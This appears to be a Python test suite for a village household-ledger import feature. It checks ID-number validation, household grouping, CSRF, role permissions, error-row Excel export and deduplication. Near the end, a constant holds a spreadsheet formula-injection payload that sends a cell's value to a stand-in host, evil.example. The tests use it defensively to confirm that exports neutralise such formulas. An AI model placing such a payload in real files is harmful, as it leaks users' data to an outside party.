"""Village ledgers: a file with deliberate errors previews and imports through the web
(CSRF on), the invalid rows come back as an Excel file, re-importing creates nothing."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from tests.conftest import csrf_from, login, make_id
from transfers.exports.cells import csv_row
from transfers.households.models import Household, Person
from transfers.imports.ledger import open_sheet, write_rows_xlsx
from transfers.imports.models import ImportBatch
from workflows.roles import Role

DEST = "411221100201"
ORIGIN = "411221205201"


def id_ending_in_x() -> str:
    for seq in range(1, 500):
        number = make_id(birth=date(1985, 5, 5), seq=seq)
        if number.endswith("X"):
            return number
    raise AssertionError("no X check digit found")


def fullwidth(text: str) -> str:
    return text.translate(str.maketrans("0123456789", "０１２３４５６７８９"))


def bad_checksum(number: str) -> str:
    return number[:-1] + ("1" if number[-1] != "1" else "2")


HEADERS = [
    "备注",
    "姓名",
    "户编号",
    "身份证号码",
    "与户主关系",
    "迁入地区划代码",
    "迁出地区划代码",
    "安置方式",
    "安置点",
    "集体经济组织成员",
    "户口迁移情况",
    "落户日期",
]


def ledger_rows() -> list[list[object]]:
    x_id = id_ending_in_x()
    head1 = make_id(birth=date(1960, 3, 1), seq=11)
    rows: list[list[object]] = [
        # household 1: ID as a number, a lowercase trailing x, full-width digits
        [
            "",
            "王建国",
            1,
            f" {head1} ",
            "户主",
            DEST,
            ORIGIN,
            "集中安置",
            "幸福社区集中安置点",
            "是",
            "",
            "",
        ],
        [
            "",
            "李秀英",
            1,
            x_id.lower(),
            "配偶",
            DEST,
            ORIGIN,
            "集中安置",
            "幸福社区集中安置点",
            "是",
            "已迁入安置地",
            "2025-07-01",
        ],
        [
            "",
            "王小明",
            "1",
            fullwidth(make_id(birth=date(2001, 6, 6), seq=12)),
            "子",
            DEST,
            ORIGIN,
            "集中安置",
            "幸福社区集中安置点",
            "否",
            "",
            "",
        ],
        # household 2: a bad check digit holds the whole household back
        [
            "",
            "赵大山",
            2,
            make_id(birth=date(1970, 1, 2), seq=21),
            "户主",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "是",
            "",
            "",
        ],
        [
            "",
            "钱小芳",
            2,
            bad_checksum(make_id(birth=date(1972, 2, 3), seq=22, sex="F")),
            "配偶",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "是",
            "",
            "",
        ],
        # household 3: unknown division code
        [
            "",
            "孙立",
            3,
            make_id(birth=date(1980, 4, 4), seq=31),
            "户主",
            DEST,
            "411221999999",
            "集中安置",
            "",
            "是",
            "",
            "",
        ],
        # household 4: no head of household
        [
            "",
            "周一",
            4,
            make_id(birth=date(1990, 1, 1), seq=41),
            "子",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "否",
            "",
            "",
        ],
        [
            "",
            "周二",
            4,
            make_id(birth=date(1992, 1, 1), seq=42, sex="F"),
            "女",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "否",
            "",
            "",
        ],
        # household 5: valid head, plus a member who duplicates someone of household 1
        [
            "多余的列",
            "吴刚",
            5,
            make_id(birth=date(1975, 8, 8), seq=51),
            "户主",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "否",
            "",
            "",
        ],
        ["", "王建国", 5, head1, "兄弟姐妹", DEST, ORIGIN, "分散安置", "", "否", "", ""],
        # household 6: valid, scattered, a single person
        [
            "",
            "郑和平",
            6,
            make_id(birth=date(1950, 9, 9), seq=61),
            "户主",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "否",
            "自愿保留原籍户口",
            "",
        ],
        # household 7: an ID number typed into a number cell lost its last digits
        [
            "",
            "冯涛",
            7,
            float(make_id(birth=date(1966, 6, 16), seq=72)),
            "户主",
            DEST,
            ORIGIN,
            "分散安置",
            "",
            "否",
            "",
            "",
        ],
    ]
    return rows


def ledger_xlsx() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(["幸福社区易地扶贫搬迁户台账（2026年）"])
    ws.append(HEADERS)
    for row in ledger_rows():
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def upload(client, content: bytes, name: str = "幸福社区台账.xlsx"):  # type: ignore[no-untyped-def]
    page = client.get("/imports/")
    assert page.status_code == 200
    token = csrf_from(page.get_data(as_text=True))
    return client.post(
        "/imports/",
        data={"csrf_token": token, "file": (io.BytesIO(content), name)},
        content_type="multipart/form-data",
    )


def run_import(client, preview_url: str):  # type: ignore[no-untyped-def]
    page = client.get(preview_url)
    html = page.get_data(as_text=True)
    action = re.search(r'action="(/imports/\d+/run)"', html).group(1)
    return client.post(action, data={"csrf_token": csrf_from(html)})


def test_ledger_with_errors_previews_then_imports(client, make_user, geo, db):
    staff = make_user(Role.VILLAGE_STAFF, DEST)
    login(client, staff)
    resp = upload(client, ledger_xlsx())
    assert resp.status_code == 303, resp.get_data(as_text=True)[:2000]
    preview_url = resp.headers["Location"]
    html = client.get(preview_url).get_data(as_text=True)
    # per-row validation: row number, column and a Chinese message (title row = row 1)
    assert "第7行" in html and "身份证号码校验位不正确" in html
    assert "第4行" not in html and "第5行" not in html  # full-width digits, lowercase x
    assert "第14行" in html and "Excel只保留15位有效数字" in html
    assert "第8行" in html and "未知的行政区划代码“411221999999”" in html
    assert "第6行" in html and "整户暂不导入" in html
    assert "第9行" in html and "第10行" in html and "该户缺少户主" in html
    assert "第12行" in html and "与第3行的身份证号码重复" in html
    assert "第11行" in html  # household 5's head waits with its household
    assert "未识别的列" in html and "备注" in html
    assert db.session.scalar(select(func.count()).select_from(Person)) == 0  # preview only

    # the import job (run in the request here), then its progress as the page polls it
    page = client.get(preview_url).get_data(as_text=True)
    action = re.search(r'action="(/imports/\d+/run)"', page).group(1)
    assert client.post(action, data={"csrf_token": csrf_from(page)}).status_code == 303
    done = client.get(preview_url + "/progress").json
    assert done["status"] == "done" and done["percent"] == 100 and done["running"] is False
    assert done["processed"] == done["total"] == 2

    people = {p.name: p for p in db.session.scalars(select(Person))}
    assert set(people) == {"王建国", "李秀英", "王小明", "郑和平"}
    assert people["李秀英"].id_number.endswith("X")
    assert people["李秀英"].facts["hukou_moved"] is True
    assert people["郑和平"].facts["hukou_moved"] is False
    assert people["王建国"].household.site.name == "幸福社区集中安置点"
    assert people["王建国"].household_id == people["王小明"].household_id
    assert db.session.scalar(select(func.count()).select_from(Household)) == 2

    # the invalid rows as Excel, with an error column; nothing silently dropped
    batch = db.session.scalars(select(ImportBatch)).one()
    assert batch.total_rows == 12 and batch.invalid_rows == 8 and batch.created_persons == 4
    xlsx = client.get(f"/imports/{batch.id}/errors.xlsx")
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][-1] == "错误说明" and rows[0][: len(HEADERS)] == tuple(HEADERS)
    assert len(rows) == 1 + 8
    assert all(r[-1] for r in rows[1:])

    # re-importing the same file creates no duplicates
    again = upload(client, ledger_xlsx())
    html = client.get(again.headers["Location"]).get_data(as_text=True)
    assert re.search(r"已登记（不重复导入）</dt><dd[^>]*>4 行", html)
    assert "导入有效数据" not in html  # nothing new to import
    assert db.session.scalar(select(func.count()).select_from(Person)) == 4
    assert db.session.scalar(select(func.count()).select_from(Household)) == 2


def test_fixed_rows_reimport_and_a_colliding_family_is_not_merged(client, make_user, geo, db):
    staff = make_user(Role.VILLAGE_STAFF, DEST)
    login(client, staff)
    first = upload(client, ledger_xlsx())
    run_import(client, first.headers["Location"])
    batch = db.session.scalars(select(ImportBatch)).one()
    errors = load_workbook(io.BytesIO(client.get(f"/imports/{batch.id}/errors.xlsx").data))
    ws = errors.active
    header = [c.value for c in ws[1]]
    id_col = header.index("身份证号码") + 1
    code_col = header.index("迁出地区划代码") + 1
    rel_col = header.index("与户主关系") + 1
    fixed = {
        3: make_id(birth=date(1972, 2, 3), seq=22, sex="F"),  # household 2's spouse
    }
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, code_col).value == "411221999999":
            ws.cell(r, code_col).value = ORIGIN
        if ws.cell(r, header.index("姓名") + 1).value == "周一":
            ws.cell(r, rel_col).value = "户主"
        if r in fixed:
            ws.cell(r, id_col).value = fixed[r]
    buf = io.BytesIO()
    errors.save(buf)
    resp = upload(client, buf.getvalue(), "错误行-已改.xlsx")
    html = client.get(resp.headers["Location"]).get_data(as_text=True)
    assert "与第3行的身份证号码重复" not in html
    # household 5 lists 王建国, registered in household 1: a conflict, not an adoption
    assert "该身份证号码已登记在王建国名下" in html and "导入不会并入该户" in html
    run_import(client, resp.headers["Location"])
    names = set(db.session.scalars(select(Person.name)))
    assert {"赵大山", "钱小芳", "孙立", "周一", "周二"} <= names
    assert "吴刚" not in names  # his family waits whole instead of joining 王建国's
    assert db.session.scalar(select(func.count()).where(Person.name == "王建国")) == 1
    heads = db.session.execute(
        select(Person.household_id, func.count())
        .where(Person.relation == "户主")
        .group_by(Person.household_id)
    ).all()
    assert all(n == 1 for _household, n in heads)


def test_csv_in_gbk_and_permissions(client, make_user, geo, db):
    other = make_user(Role.VILLAGE_STAFF, "411221100202")
    police = make_user(Role.POLICE_STATION, "411221100")
    login(client, police)
    assert client.get("/imports/").status_code == 403
    client.post("/logout", data={"csrf_token": csrf_from(client.get("/").get_data(as_text=True))})
    login(client, other)
    text = ",".join(HEADERS) + "\n" + ",".join(str(c) for c in ledger_rows()[0]) + "\n"
    resp = upload(client, text.encode("gb18030"), "台账.csv")
    html = client.get(resp.headers["Location"]).get_data(as_text=True)
    # another village's row: one summary, not an error per row
    assert "1行的迁入地不在您可导入的范围内" in html and "请选择本村（社区）作为迁入地" not in html
    bad = upload(client, b"name,id\n1,2\n", "x.csv")
    assert bad.status_code == 422 and "未找到表头行" in bad.get_data(as_text=True)
    template = client.get("/imports/template.xlsx")
    wb = load_workbook(io.BytesIO(template.data))
    assert [c.value for c in wb.active[1]][:4] == ["户编号", "姓名", "身份证号码", "与户主关系"]


def test_cli_import_ledger(app, geo, db, tmp_path):
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(ledger_xlsx())
    runner = app.test_cli_runner()
    dry = runner.invoke(args=["import-ledger", str(path), "--dry-run"])
    assert "dry run: nothing imported" in dry.output
    assert db.session.scalar(select(func.count()).select_from(ImportBatch)) == 0
    result = runner.invoke(args=["import-ledger", str(path), "--errors", str(tmp_path / "e.xlsx")])
    assert result.exit_code == 2, result.output
    assert "12 rows: 4 to import (2 households), 8 invalid" in result.output
    assert "created 2 households, 4 persons" in result.output
    assert (tmp_path / "e.xlsx").exists()
    again = runner.invoke(args=["import-ledger", str(path)])
    assert (
        "4 already registered" in again.output and "created 0 households, 0 persons" in again.output
    )


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


def _formulas(xlsx: bytes) -> list[str]:
    """The formula elements of every sheet of a workbook, as stored."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", z.read(n).decode())]


def test_error_workbook_writes_formula_like_text_as_text():  # type: ignore[no-untyped-def]
    out = io.BytesIO()
    row = [EVIL, "-", "+86 138", "@SUM(A1)", "\tx", -5, 3.5, None]
    write_rows_xlsx(out, ["姓名", "联系电话", "a", "b", "c", "d", "e", "f"], iter([row]))
    assert _formulas(out.getvalue()) == []
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2))[0]
    assert [c.value for c in cells] == row[:-1] + [None]  # exactly as written
    assert [c.data_type for c in cells[:5]] == ["s"] * 5 and cells[0].quotePrefix
    assert cells[5].data_type == "n"  # a negative number stays a number


def test_ledger_csv_fields_quoted_against_formulas_read_back_as_written(tmp_path):  # type: ignore[no-untyped-def]
    """What our CSV writer quotes ('=…, '-) the ledger import reads back unquoted; a
    value that merely starts with an apostrophe is kept."""
    headers = ["姓名", "身份证号码", "户编号", "与户主关系", "迁出地区划代码", "迁入地区划代码"]
    values = ["王建国", EVIL, "-", "-5", "'hello", "'", "+1"]
    path = tmp_path / "台账.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([csv_row([*headers, "安置方式"]), csv_row(values)])
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    sheet = open_sheet(path, "台账.csv")
    assert [cells for _no, cells, _lossy in sheet.rows] == [values]
